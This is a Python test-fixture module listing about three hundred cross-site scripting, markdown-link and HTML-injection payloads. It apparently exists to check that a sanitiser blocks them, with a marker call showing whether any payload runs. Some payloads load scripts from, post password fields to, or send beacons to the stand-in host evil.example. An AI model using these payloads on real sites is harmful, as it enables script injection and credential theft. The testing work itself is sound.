"""Three hundred texts that want to run a script, reach another host or leave their place in the page. ``HIT`` stands for the call that
would give them away: a browser test puts ``hit(number)`` there and looks whether it was ever called.

Most are written out; where an old trick is one of spelling, the spellings are made from their table.
"""

from __future__ import annotations

from typing import Final

#: Elements that run something by themselves: on load, on error, on focus, on being laid out.
BY_THEMSELVES: Final = (
    "<script>HIT</script>", "<SCRIPT>HIT</SCRIPT>", "<script >HIT</script >", "<script/x>HIT</script>", "<script\n>HIT</script\n>", "<script>HIT",
    "<scr<script>ipt>HIT</scr</script>ipt>", "<<script>HIT//<</script>", "<script>/*\n\n*/HIT</script>", "<script type=module>HIT</script>",
    "<script type=text/javascript>HIT</script>", "<script>0?0:HIT</script>", "</title><script>HIT</script>", "</textarea><script>HIT</script>",
    "</style><script>HIT</script>", "--><script>HIT</script>", "]]><script>HIT</script>", "</article></main><script>HIT</script>",
    "<img src=x onerror=HIT>", "<img src=x onerror='HIT'>", '<img src=x onerror="HIT">', "<img/src=x/onerror=HIT>", "<IMG SRC=x ONERROR=HIT>",
    "<img src=x\nonerror=HIT>", "<img src=x\tonerror=HIT>", "<img src=x onerror=HIT//", "<img src onerror=HIT>", "<img src=x:x onerror=HIT>",
    "<img src=x onerror\n=\nHIT>", "<img src=x onerror=&#x48;IT&#59;HIT>", "<img src=x onerror='0;HIT'>", "<image src=x onerror=HIT>",
    "<img srcset=x onerror=HIT>", "<picture><img srcset=x onerror=HIT></picture>", "<img src=x onerror=window['hi'+'t'](NUMBER)>",
    "<img src=x onerror=setTimeout('HIT')>", "<img src=x onerror=eval('HIT')>", "<img src=x onerror=Function('HIT')()>",
    "<img src=x onerror=top.HIT>",
    "<svg onload=HIT>", "<svg/onload=HIT>", "<svg onload=HIT//", "<svg><script>HIT</script></svg>", "<svg><script>&#104;it(NUMBER)</script></svg>",
    "<svg><script/href=data:text/javascript,HIT></script></svg>", "<svg><animate onbegin=HIT attributeName=x dur=1s>",
    "<svg><set onbegin=HIT attributeName=x>",
    "<svg><animate attributeName=href values=javascript:HIT></animate><a><text>x</text></a></svg>", "<svg><image href=x onerror=HIT></svg>",
    "<svg><a href=javascript:HIT><text y=20>x</text></a></svg>", "<svg><a xlink:href=javascript:HIT><text y=20>x</text></a></svg>",
    "<svg><foreignObject><img src=x onerror=HIT></foreignObject></svg>", "<svg><style><img src=x onerror=HIT></style></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>HIT</script></svg>#x'></svg>",
    "<svg><title><img src=x onerror=HIT></title></svg>",
    "<svg><desc><img src=x onerror=HIT></desc></svg>", "<svg><discard onbegin=HIT>",
    "<svg><animateTransform onbegin=HIT attributeName=transform dur=1s>",
    "<body onload=HIT>", "<body onpageshow=HIT>", "<body onresize=HIT>", "<body onfocus=HIT>", "<html onload=HIT>", "<frameset onload=HIT>",
    "<iframe src=javascript:HIT></iframe>", "<iframe src=javascript:parent.HIT></iframe>", "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
    "<iframe onload=HIT></iframe>", "<iframe src=data:text/html,<script>parent.HIT</script>></iframe>",
    "<iframe src='javascript:parent.HIT//'></iframe>",
    "<object data=javascript:HIT></object>", "<object data='data:text/html,<script>parent.HIT</script>'></object>",
    "<object onerror=HIT data=x></object>",
    "<embed src=javascript:HIT>", "<embed src='data:text/html,<script>parent.HIT</script>'>", "<applet code=x onerror=HIT></applet>",
    "<video src=x onerror=HIT></video>", "<video><source src=x onerror=HIT></video>", "<audio src=x onerror=HIT></audio>",
    "<video poster=x onloadstart=HIT src=x></video>",
    "<audio src onloadstart=HIT>", "<track src=x onerror=HIT>", "<input onfocus=HIT autofocus>", "<input type=image src=x onerror=HIT>",
    "<select onfocus=HIT autofocus></select>", "<textarea onfocus=HIT autofocus></textarea>", "<button onfocus=HIT autofocus>x</button>",
    "<keygen onfocus=HIT autofocus>", "<a onfocus=HIT tabindex=1 autofocus>x</a>", "<details open ontoggle=HIT>x</details>",
    "<marquee onstart=HIT>x</marquee>",
    "<link rel=stylesheet href=x onerror=HIT>", "<style onload=HIT></style>", "<style>@import 'x';</style><style onerror=HIT>",
    "<script src=x onerror=HIT></script>",
    "<script src='data:text/javascript,HIT'></script>", "<script src=//evil.example/x.js></script>",
    "<meta http-equiv=refresh content='0;url=javascript:HIT'>",
    "<meta http-equiv=refresh content='0;url=data:text/html,<script>HIT</script>'>", "<base href=//evil.example/>",
    "<base href='javascript:/a/-HIT//'>",
    "<dialog open onfocusin=HIT><input autofocus></dialog>", "<div style=animation-name:x onanimationstart=HIT>x</div>",
    "<style>@keyframes x{}</style><b style='animation:x 1s' onanimationstart=HIT>x</b>", "<b style='transition:color 1s' ontransitionend=HIT>x</b>",
    "<object type=text/html data=x onload=HIT></object>", "<custom-el onfocus=HIT tabindex=1 autofocus>x</custom-el>",
    "<slot onslotchange=HIT>x</slot>",
    "<anyday-curve onfocus=HIT tabindex=0 autofocus></anyday-curve>",
)  # fmt: skip

#: Elements that wait for somebody to move, press or point.
AT_A_TOUCH: Final = tuple(
    f"<{tag} on{event}=HIT{rest}>x</{tag}>"
    for tag, rest in (("b", ""), ("a", " href=#"), ("div", " tabindex=0"))
    for event in ("click", "mouseover", "pointerdown", "keydown", "copy", "drag", "contextmenu", "wheel", "input", "auxclick")
)

#: Ways to spell the scheme that browsers once forgave, or still do.
SCHEMES: Final = (
    "javascript:HIT", "JavaScript:HIT", "JAVASCRIPT:HIT", "javascript&colon;HIT", "javascript&#58;HIT", "javascript&#x3a;HIT", "&#106;avascript:HIT",
    "&#x6A;avascript:HIT", "&#0000106avascript:HIT", "java&#10;script:HIT", "java&#9;script:HIT", "java&NewLine;script:HIT", "java&Tab;script:HIT",
    "java\tscript:HIT",
    "\x01javascript:HIT", "&#1;javascript:HIT", "\u00a0javascript:HIT", "\ufeffjavascript:HIT", "javascript\u200b:HIT", "javascript://%0aHIT",
    "javascript://example.org/%0d%0aHIT",
    "javascript:/*--*/HIT", "javascript:%48IT", "javascript:void(HIT)", "javascript:'<b>'+HIT", "data:text/html,<script>HIT</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=HIT>", "vbscript:HIT", "livescript:HIT", "mocha:HIT", "view-source:javascript:HIT", "feed:javascript:HIT",
    "jar:javascript:HIT!/",
    "blob:javascript:HIT", "about:HIT", "//evil.example/HIT", "\\\\evil.example\\HIT", "/\\evil.example", "ſcript:HIT", "javaſcript:HIT",
    "ｊavascript:HIT",
)  # fmt: skip
LINKED: Final = tuple(
    shape.replace("@", scheme)
    for shapes, schemes in (
        (("[x](@)", "<a href='@'>x</a>"), SCHEMES),
        (("[x](<@>)", "<@>", "[x]: @\n\n[x]", "![x](@)"), SCHEMES[:14]),
        (('[x](@ "HIT")', "[![x](y)](@)", "**[x](@)**", "> [x](@)", "- [x](@)",
          "<form action='@'><button>x</button></form>", "<form><button formaction='@'>x</button></form>"), SCHEMES[:3]),
    )
    for scheme in schemes
    for shape in shapes
)  # fmt: skip

#: Links and addresses that try to break out of the attribute that holds them.
BREAKING_OUT: Final = (
    '[x](https://a.b/"onmouseover=HIT)', "[x](https://a.b/'onmouseover='HIT)", '[x](https://a.b/ "x\\"onmouseover=HIT")',
    "[x](https://a.b/ '\"><img src=x onerror=HIT>')",
    '[x](https://a.b/"><img src=x onerror=HIT>)', "[x](https://a.b/`onmouseover=HIT)", '[x](<https://a.b/" onmouseover="HIT>)',
    "https://a.b/\"onmouseover=HIT",
    'https://a.b/"><img/src=x/onerror=HIT>', "https://a.b/'onmouseover='HIT", "https://a.b/<img/src=x/onerror=HIT>",
    "https://a.b/&quot;onmouseover=HIT", "https://a.b/&#34;onmouseover=HIT//",
    "https://a.b/&lt;img src=x onerror=HIT&gt;", "https://a.b/%22onmouseover=HIT", "<https://a.b/\"onmouseover=HIT>",
    "<https://a.b/'><img src=x onerror=HIT>", "<a@b.c\"onmouseover=HIT>",
    "<mailto:a@b.c?\"onmouseover=HIT>", "[x](mailto:a@b.c\"onmouseover=HIT)", "[<img src=x onerror=HIT>](https://a.b)",
    "[**<svg/onload=HIT>**](https://a.b)", "[`<script>HIT</script>`](https://a.b)",
    "[x](https://javascript:HIT@a.b/)", "[x](https://a.b/#javascript:HIT)", "https://a.b/?next=javascript:HIT", "[![x](x\"onerror=HIT)](y)",
    '![x](x"onerror="HIT)', "![<img src=x onerror=HIT>](https://a.b/x.png)",
    '![x](https://a.b/ "\\" onload=\\"HIT")', "[x](https://a.b/\x00\"onmouseover=HIT)", "[x]('onmouseover='HIT)",
)  # fmt: skip

#: HTML in code, in quotes, in lists, in headings, in escapes: where one language ends and another begins.
BETWEEN: Final = (
    "```\n<script>HIT</script>\n```", "```html\n<img src=x onerror=HIT>\n```", "```\"><img src=x onerror=HIT>\nx\n```",
    "~~~<script>HIT</script>\nx\n~~~", "```\n</code></pre><script>HIT</script>\n```",
    "`<script>HIT</script>`", "``</code><img src=x onerror=HIT>``", "`</code>`<img src=x onerror=HIT>", "    <script>HIT</script>",
    "\t<img src=x onerror=HIT>", "> <script>HIT</script>", "> <img src=x\n> onerror=HIT>",
    "- <img src=x onerror=HIT>", "1. <svg/onload=HIT>", "# <script>HIT</script>", "###### <img src=x onerror=HIT>", "**<img src=x onerror=HIT>**",
    "*<svg onload=HIT>*", "_<script>HIT</script>_",
    "\\<script>HIT\\</script>", "&lt;script&gt;HIT&lt;/script&gt;", "&#60;script&#62;HIT&#60;/script&#62;", "&#x3c;img src=x onerror=HIT&#x3e;",
    "&lt;img src=x onerror=HIT&gt;", "&amp;lt;script&amp;gt;HIT",
    "&LT;script&GT;HIT&LT;/script&GT;", "\\&lt;img src=x onerror=HIT\\&gt;", "<scr\\ipt>HIT</scr\\ipt>", "<!--><img src=x onerror=HIT>-->",
    "<!-- --!><img src=x onerror=HIT> -->", "<![CDATA[<img src=x onerror=HIT>]]>",
    "<?xml ?><img src=x onerror=HIT>", "<!doctype html><script>HIT</script>", "<!ENTITY x '<script>HIT</script>'>", "<%<script>HIT</script>%>",
    "{{ HIT }}", "${HIT}", "{% raw %}<script>HIT</script>{% endraw %}", "{{ ''.__class__ }}<svg/onload=HIT>",
    "<img src=x\n\nonerror=HIT>", "<script>\n\nHIT\n\n</script>", "<div>\n\n<script>HIT</script>\n\n</div>", "a<b onclick=HIT>c",
    "<b\n> <img src=x onerror=HIT>", "***\n<svg/onload=HIT>\n***", "- - - <img src=x onerror=HIT>",
)  # fmt: skip

#: What parses one way when it is cleaned and another way when it is shown.
SHIFTING: Final = (
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=HIT&gt;'>",
    "<math><mi//xlink:href='javascript:HIT'>x</mi></math>", "<math href='javascript:HIT'>x</math>",
    "<math><maction actiontype=statusline xlink:href=javascript:HIT>x</maction></math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=HIT></annotation-xml></math>",
    "<math><mtext><img src=x onerror=HIT></mtext></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=HIT>", "<svg></p><style><a id='</style><img src=x onerror=HIT>'>",
    "<svg><p><style><!--</style><img src=x onerror=HIT>", "<noscript><p title='</noscript><img src=x onerror=HIT>'>",
    "<noscript><img src=x onerror=HIT></noscript>", "<noembed><img src=x onerror=HIT></noembed>", "<noframes><img src=x onerror=HIT></noframes>",
    "<xmp><img src=x onerror=HIT></xmp>", "<xmp><p title='</xmp><img src=x onerror=HIT>'>",
    "<plaintext><img src=x onerror=HIT>", "<listing>&lt;img src=x onerror=HIT&gt;</listing>", "<template><img src=x onerror=HIT></template>",
    "<template><script>HIT</script></template>", "<div><template shadowrootmode=open><img src=x onerror=HIT></template></div>",
    "<textarea><img title='</textarea><img src=x onerror=HIT>'>", "<title><img title='</title><img src=x onerror=HIT>'>",
    "<style><img src='</style><img src=x onerror=HIT>'>", "<iframe><img title='</iframe><img src=x onerror=HIT>'>",
    "<script><!--<script></script>HIT//--></script>", "<select><style></select><img src=x onerror=HIT></style>",
    "<select><template><img src=x onerror=HIT></template></select>", "<table><td><img src=x onerror=HIT>", "<table><script>HIT</script></table>",
    "<a href=x><table><a onclick=HIT>x", "<p><svg><title><p><style><img src=x onerror=HIT></style>",
    "<b><a href=x><i></b></a></i><img src=x onerror=HIT>", "<img alt='`><img src=x onerror=HIT>'>", "<div id=`x`onmouseover=HIT>`",
    "<x/><title>&lt;/title>&lt;img src=x onerror=HIT>",
    "<frameset><frame src=javascript:HIT></frameset>", "<isindex action=javascript:HIT type=image>", "<bgsound src=javascript:HIT>",
    "<layer src=x onload=HIT></layer>", "<xss style=behavior:url(x) onclick=HIT>x</xss>",
    "<option><style></option></select><b><img src=x onerror=HIT></style></option>",
)  # fmt: skip

#: Signs that change their shape, or that make two letters one.
SIGNS: Final = (
    "＜script＞HIT＜/script＞", "‹script›HIT‹/script›", "\u02bascript\u02baHIT", "<\x00script>HIT</script>", "<s\x00cript>HIT</script>",
    "<scrıpt>HIT</scrıpt>", "<ſcript>HIT</ſcript>", "<img\x0bsrc=x onerror=HIT>", "<img\x0csrc=x\x0conerror=HIT>",
    "<img src=x onerror\u2028=HIT>", "<img src=x\u00a0onerror=HIT>", "<img src=x\u3000onerror=HIT>", "\u202e<script>HIT</script>",
    "\ufeff<script>HIT</script>", "+ADw-script+AD4-HIT+ADw-/script+AD4-", "%3Cscript%3EHIT%3C/script%3E",
    "\\u003cscript\\u003eHIT\\u003c/script\\u003e",
    "\\x3cscript\\x3eHIT\\x3c/script\\x3e", "¼script¾HIT¼/script¾", "<img src=x onerror=\u0048IT>", "<svg\u2029onload=HIT>",
    "\x1b[31m<svg onload=HIT>", "<Script\u0301>HIT</script\u0301>", "\u2066<img src=x onerror=HIT>\u2069",
)  # fmt: skip

#: What runs nothing and still leaves its place: it asks another host, or takes over the page.
REACHING_OUT: Final = (
    "<img src=//evil.example/x.png>", "![x](https://evil.example/x.png)", "<style>@import '//evil.example/x.css';</style>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<link rel=prefetch href=//evil.example/>", "<link rel=dns-prefetch href=//evil.example>",
    "<b style='background:url(//evil.example/x)'>x</b>", "<b style='position:fixed;inset:0;z-index:9'>x</b>",
    "<form action=//evil.example><input name=password type=password></form>", "<iframe src=//evil.example></iframe>",
    "<video src=//evil.example/x.mp4 autoplay></video>",
    "<object data=//evil.example/x></object>", "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<svg><image href=//evil.example/x></svg>", "<body background=//evil.example/x>", "<a ping=//evil.example href=https://a.b>x</a>",
    "<b id=question data-id=evil>x</b>",
    "<form id=slip><input name=window value=never></form>", "<b class=said data-refusal>You have been signed out</b>",
    "<a name=anydaySlip id=anydaySlip href=x>x</a>", "<base target=evil>", "<input form=slip name=points value=100>", "<img name=getElementById>",
    "<form name=body><input name=firstChild></form>",
)  # fmt: skip

PAYLOADS: Final = tuple(dict.fromkeys((*BY_THEMSELVES, *AT_A_TOUCH, *LINKED, *BREAKING_OUT, *BETWEEN, *SHIFTING, *SIGNS, *REACHING_OUT)))


def armed(payload: str, number: int) -> str:
    """A payload that says which one it was, should it ever run."""
    return payload.replace("HIT", f"hit({number})").replace("NUMBER", str(number))
